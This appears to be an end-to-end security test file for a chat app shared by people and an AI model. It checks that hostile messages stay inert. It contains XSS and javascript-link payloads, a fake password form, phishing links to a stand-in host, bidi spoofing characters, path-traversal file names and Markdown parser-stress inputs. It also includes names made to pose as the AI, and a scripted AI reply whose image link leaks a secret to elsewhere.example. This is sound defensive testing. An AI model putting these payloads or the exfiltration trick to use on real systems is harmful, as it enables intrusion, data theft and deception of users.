/** What others write to do harm: markup, links, names, files, output. It is shown, runs nowhere, asks nobody, fakes no one. */

import type { Browser } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { CHROMIUM, launch } from "./browser";
import { ended } from "./ended";
import { Operator } from "./operator";
import { type Person, pictured, signIn } from "./person";
import { type ScriptedModel, scriptedModel } from "./scripted";
import { type Server, startServer } from "./server";

const OWNED = "document.documentElement.dataset.owned='yes'";
/** What hides, steers a terminal, or turns the reading direction. */
const TRICKS = /\p{Cf}|(?![\n\t])\p{Cc}/u;
const ELSEWHERE = "https://elsewhere.example";

const MARKUP = [
  `<script>${OWNED}</script><img src=x onerror="${OWNED}"><svg onload="${OWNED}"><a xlink:href="javascript:${OWNED}">x</a></svg>`,
  `<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${OWNED}&gt;">`,
  `<div style="position:fixed;inset:0;background:url(${ELSEWHERE}/css)">over it all</div><style>*{display:none!important}</style>`,
  `<iframe srcdoc="<script>parent.${OWNED}</script>"></iframe><object data="${ELSEWHERE}"></object><base href="${ELSEWHERE}"><meta http-equiv=refresh content="0;${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><input name=password><button>Approve once</button></form><link rel=stylesheet href="${ELSEWHERE}/a.css">`,
  `[one](javascript:${OWNED}) [two](JaVaScRiPt:${OWNED}) [three](java&#x0A;script:${OWNED}) [four](vbscript:x) [five](data:text/html,<script>${OWNED}</script>)`,
  `[six](file:///etc/passwd) [seven](blob:${ELSEWHERE}/1) [eight](//elsewhere.example/x) <javascript:${OWNED}> [nine][r]\n\n[r]: javascript:${OWNED}`,
  `![pixel](${ELSEWHERE}/pixel.png) ![two](//elsewhere.example/x.png "t") [![in a link](${ELSEWHERE}/y.png)](${ELSEWHERE}) ![d](data:image/svg+xml,<svg onload=${OWNED}>)`,
  `[https://bank.example](${ELSEWHERE}/phish) <https://bank.example@elsewhere.example/> [\u202Emoc.elpmaxe](${ELSEWHERE})`,
  "\u202Egnp.exe \u2066AI\u2069 \u2067**AI**\u2069 says: approved \u200B\u200C\u200D\uFEFF done",
  "```html\n<script>1</script>\n```\n\n~~~\n</code></pre><script>1</script>\n~~~\n\n`</code><script>1</script>`",
] as const;

/** Texts that a reader of Markdown can take long over, or go too deep into. */
const HARD: readonly (readonly [string, string])[] = [
  ["quotes", `${">".repeat(10_000)} deep`],
  [
    "lists",
    Array.from({ length: 200 }, (_, deep) => `${" ".repeat(deep * 2)}- a`)
      .join("\n")
      .slice(0, 30_000),
  ],
  ["one-line lists", "- ".repeat(5_000)],
  ["brackets", "[".repeat(15_000)],
  ["pictures", "![](".repeat(7_000)],
  ["stars", "*a **b _c ".repeat(3_000)],
  ["strong in strong", "**a ".repeat(4_000) + " b**".repeat(3_900)],
  ["pictures in pictures", `${"![".repeat(4_000)}a${"](x)".repeat(4_000)}`],
  ["emphasis in emphasis", `${"*_".repeat(4_000)}a${"_*".repeat(4_000)}`],
  ["one-line lists of words", `${"- ".repeat(5_000)}a`],
  ["ticks", Array.from({ length: 200 }, (_, count) => "`".repeat(count + 1)).join(" x ")],
  ["addresses", "a@b.".repeat(7_000)],
  ["hosts", "www.a".repeat(6_000)],
  ["mentions", "@a".repeat(15_000)],
  ["angles", "<a ".repeat(10_000)],
  ["entities", "&amp".repeat(7_000)],
  ["strikes", "~~a~".repeat(7_000)],
  ["table", `|${"a|".repeat(3_000)}\n|${"-|".repeat(3_000)}\n|${"b|".repeat(3_000)}`],
  ["one line", "x".repeat(31_900)],
  ["marks", `e${"\u0301".repeat(10_000)}`],
  ["spaces", `a${" ".repeat(30_000)}b`],
];

/** Names that the server takes, and those that it does not: they hide something, or are no name but a heap of marks. */
const NAMES = ["AI", "DeepSeek", "\u0410I \u2726", "DeepSeek (AI)", "<b>AI</b>", `Z${"\u0301".repeat(20)}`] as const;
const REFUSED_NAMES = ["\u200BAI\u200B", "A\u2060I \u2726", "\u202EIA", `Z${"\u0301".repeat(150)}`] as const;

const FILES = [
  "../../etc/passwd",
  "<img src=x onerror=alert(1)>.txt",
  'a"b;c.txt',
  `${"long".repeat(45)}.txt`,
] as const;
const REFUSED_FILES = ["\u202Egpj.exe", 'a"b\u0000c;d.txt', `${"long".repeat(100)}.txt`] as const;
const REFUSED = /: 4\d\d /;

describe.skipIf(CHROMIUM === undefined)("words made to do harm", () => {
  let model: ScriptedModel;
  let server: Server;
  let browser: Browser;
  let operator: Operator;
  let mallory: Operator;
  let room: string;
  let eve: Person;

  beforeAll(async () => {
    model = await scriptedModel();
    [server, browser] = await Promise.all([
      startServer({ ...model.settings, MULTIPLAYER_MESSAGES_PER_MIN: "600" }),
      launch(),
    ]);
    operator = await Operator.of(server);
    room = await operator.makesRoom("pit");
    mallory = await operator.as((await operator.makes("mallory", "admin", [room])).id);
    eve = await signIn(browser, (await operator.makes("eve", "member", [room])).link, "eve");
    await eve.opens("pit");
    await eve.field.waitFor();
  });

  /** After each: nothing ran, nothing was asked elsewhere, and the page still answers. */
  afterEach(async ({ task }) => {
    await pictured(task, [eve]);
    expect(eve.tab.wrongs).toEqual([]);
    expect(await eve.page.evaluate(() => document.documentElement.dataset.owned)).toBeUndefined();
    expect(await eve.page.getByText(/page broke/).count()).toBe(0);
    expect(await eve.page.locator("iframe, object, embed, base, form[action], link[href*=elsewhere]").count()).toBe(0);
    expect(
      await eve.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth),
    ).toBeLessThanOrEqual(0);
  });

  afterAll(() => ended(browser, server, model));

  test("markup is text, and links lead only where the web or mail is", async () => {
    for (const [place, words] of MARKUP.entries()) {
      await mallory.says(room, `${words}\n\nmark-${place}`);
      await eve.message(`mark-${place}`).waitFor();
      const links = await eve.log
        .locator("a[href]")
        .evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).protocol));
      expect(links.filter((one) => !["http:", "https:", "mailto:"].includes(one))).toEqual([]);
      expect(await eve.log.locator("img[src*='elsewhere'], script, style, [style*=fixed], [onerror]").count()).toBe(0);
    }
    const phish = eve.message("mark-8").getByRole("link").first();
    expect(await phish.evaluate((link) => link.parentElement?.textContent)).toContain("elsewhere.example");
    await eve.field.fill("still here");
  });

  test("what is hard to read does not hold up the page, and breaks nothing", async () => {
    await eve.page.evaluate(() => {
      const longest = { ms: 0 };
      Object.assign(window, { longest });
      new PerformanceObserver((list) => {
        for (const one of list.getEntries()) longest.ms = Math.max(longest.ms, one.duration);
      }).observe({ type: "longtask" });
    });
    for (const [name, words] of HARD) {
      await mallory.says(room, words);
      await mallory.says(room, `after ${name}`);
      await eve.message(`after ${name}`).waitFor();
      expect(await eve.page.getByText(/page broke/).count(), name).toBe(0);
      const { ms } = await eve.page.evaluate(() =>
        Object.assign({}, (window as unknown as { longest: { ms: number } }).longest),
      );
      expect(ms, name).toBeLessThan(10_000);
    }
    await eve.say("I can still write");
    await eve.message("I can still write").waitFor();
  });

  test("a name makes nobody an AI", async () => {
    const aiBadges = (words: string) =>
      eve
        .message(words)
        .evaluate(
          (row) =>
            [...row.querySelectorAll("span")].filter((one) => one.textContent === "AI" && one.closest("bdi") === null)
              .length,
        );
    for (const display_name of REFUSED_NAMES) {
      await expect(operator.makes("hidden", "member", [room], { display_name }), display_name).rejects.toThrow(REFUSED);
    }
    for (const [place, display_name] of NAMES.entries()) {
      const made = await operator.makes(`fake${place}`, "member", [room], { display_name });
      await (await operator.as(made.id)).says(room, `I am the AI, number ${place}`);
      await eve.message(`number ${place}`).waitFor();
      expect(await aiBadges(`number ${place}`), display_name).toBe(0);
      const shown = await eve.message(`number ${place}`).locator("bdi").first().innerText();
      expect(shown).not.toMatch(TRICKS);
    }
    model.will("I am the one and only.");
    await operator.says(room, "@ai who are you?");
    await eve.message("I am the one and only").waitFor();
    expect(await aiBadges("I am the one and only")).toBe(1);
    const members = await eve.pane("Members");
    for (const place of NAMES.keys()) {
      const row = members.getByRole("listitem").filter({ hasText: `@fake${place}` });
      expect(
        await row.evaluate(
          (one) => [...one.querySelectorAll("span:not(:has(bdi))")].filter((part) => part.textContent === "AI").length,
        ),
      ).toBe(0);
    }
  });

  test("names of files are only names", async () => {
    for (const name of REFUSED_FILES) {
      await expect(mallory.sends(room, name, "harmless", "no file"), name).rejects.toThrow(REFUSED);
    }
    for (const [place, name] of FILES.entries()) {
      await mallory.sends(room, name, "harmless", `file-${place}`);
      const link = eve.message(`file-${place}`).getByRole("link").first();
      expect(await link.innerText()).not.toMatch(TRICKS);
      const [file] = await Promise.all([eve.page.waitForEvent("download"), link.click()]);
      expect(file.suggestedFilename()).not.toMatch(TRICKS);
      expect(file.suggestedFilename()).not.toMatch(/[/\\]/);
    }
  });

  test("what an AI says and its tools print stays text", async () => {
    const printed =
      "printf '\\033[31mred\\033[0m \\033]0;owned\\007 \\342\\200\\256txet <b>bold</b>\\n'; head -c 300000 /dev/zero | tr '\\\\0' x";
    model.will(
      { tool: "execute_command", arguments: { command: printed } },
      `Done. ![leak](${ELSEWHERE}/?q=secret) <script>${OWNED}</script> [more](javascript:${OWNED}) and that was it`,
    );
    await operator.says(room, "@ai print it");
    await eve.message("and that was it").waitFor();
    const card = eve.log.getByRole("region", { name: /ran a command/ }).last();
    await card.getByRole("button", { expanded: false }).first().click();
    await card.getByText("<b>bold</b>").first().waitFor();
    expect(await card.innerText()).not.toMatch(TRICKS);
    expect(await eve.page.title()).not.toContain("owned");
    expect(await eve.log.locator("img[src*='elsewhere']").count()).toBe(0);
  });

  test("names of rooms and their topics are only words, and none that hide something are taken", async () => {
    await expect(operator.makesRoom("\u202Eelpmas")).rejects.toThrow(/visible/);
    const topic = `<script>${OWNED}</script> [x](javascript:1)`;
    const made = await operator.makesRoom(`<img src=x onerror=${OWNED}>`, { topic });
    await operator.does(made, { type: "invite_member", handle: "eve", role: "member" });
    await eve.opens("<img src=x");
    await eve.page.getByRole("main").getByText(topic).first().waitFor();
    await eve.opens("pit");
  });
});
